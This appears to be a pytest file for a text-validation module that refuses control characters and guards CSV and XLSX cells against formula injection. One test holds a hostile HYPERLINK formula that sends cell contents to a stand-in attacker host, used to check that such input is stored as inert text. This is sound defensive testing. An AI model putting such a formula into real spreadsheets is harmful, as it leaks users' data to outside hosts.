"""The one check of text that people give, and the guards of spreadsheet cells (jiaowei.text)."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from jiaowei.text import csv_cell, csv_uncell, escaped, text_problem, text_problems, xlsx_cell, xlsx_row


@pytest.mark.parametrize("bad", ["\x00", "\x07", "\x1b", "\x7f", "\x85", "\x9f", "\ud800", "\udfff"])
def test_control_characters_and_lone_surrogates_are_refused_everywhere(bad):
    for multiline in (False, True):
        problem = text_problem(f"a{bad}b", field="name_zh", multiline=multiline, row=3)
        assert problem is not None and (problem.field, problem.row) == ("name_zh", 3)
        assert f"U+{ord(bad):04X}" in problem.message
        assert bad not in problem.value and problem.value.startswith("a\\") and problem.value.endswith("b")
        assert "control characters" in (problem.expected or "")


@pytest.mark.parametrize("space", ["\t", "\n", "\r\n"])
def test_tab_and_line_breaks_pass_only_in_text_of_several_lines(space):
    assert text_problem(f"a{space}b", field="comment", multiline=True) is None
    assert text_problem(f"a{space}b", field="name_en") is not None


def test_ordinary_text_passes_and_only_named_fields_are_checked():
    assert text_problem("上海市第一中学 No. 1 – «école» 😀", field="name_zh") is None
    assert text_problem(12, field="value") is None
    values = {"name_zh": "x\x00", "code": "y\x00", "note": "a\nb"}
    problems = text_problems(values, ("name_zh", "note", "gone"), multiline=("note",))
    assert [p.field for p in problems] == ["name_zh"]


def test_escaped_values_are_short_and_encodable():
    shown = escaped("\ud800" + "x" * 500)
    assert shown.startswith("\\ud800") and len(shown) < 220 and shown.endswith("…")
    shown.encode("utf-8")


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("'=1", "''=1"), ("plain", "plain"), ("'quoted'", "'quoted'"), ("", ""),
])
def test_csv_cells_that_a_spreadsheet_would_compute_get_a_quote(text, cell):
    assert csv_cell(text) == cell
    assert csv_uncell(cell) == text


@given(st.text())
def test_csv_cells_round_trip(text):
    assert csv_uncell(csv_cell(text)) == text


def test_numbers_are_not_csv_text():
    assert csv_cell(-3) == -3 and csv_cell(None) is None


def test_xlsx_text_is_never_a_formula_and_never_breaks_the_workbook():
    book = Workbook()
    sheet = book.active
    assert xlsx_cell(sheet, 1, 1, '=HYPERLINK("http://evil.example/?"&A1,"open")').data_type == "s"
    xlsx_cell(sheet, 1, 2, "old\x00value")
    assert xlsx_cell(sheet, 1, 3, -3).data_type == "n"
    quick = book.create_sheet("quick")
    quick.append(xlsx_row(quick, ["=1+2", 5]))
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue()))
    first = read.worksheets[0]
    assert first["A1"].data_type == "s" and first["A1"].value.startswith("=HYPERLINK")
    assert first["B1"].value == "old\ufffdvalue" and first["C1"].value == -3
    assert read["quick"]["A1"].data_type == "s" and read["quick"]["A1"].value == "=1+2"
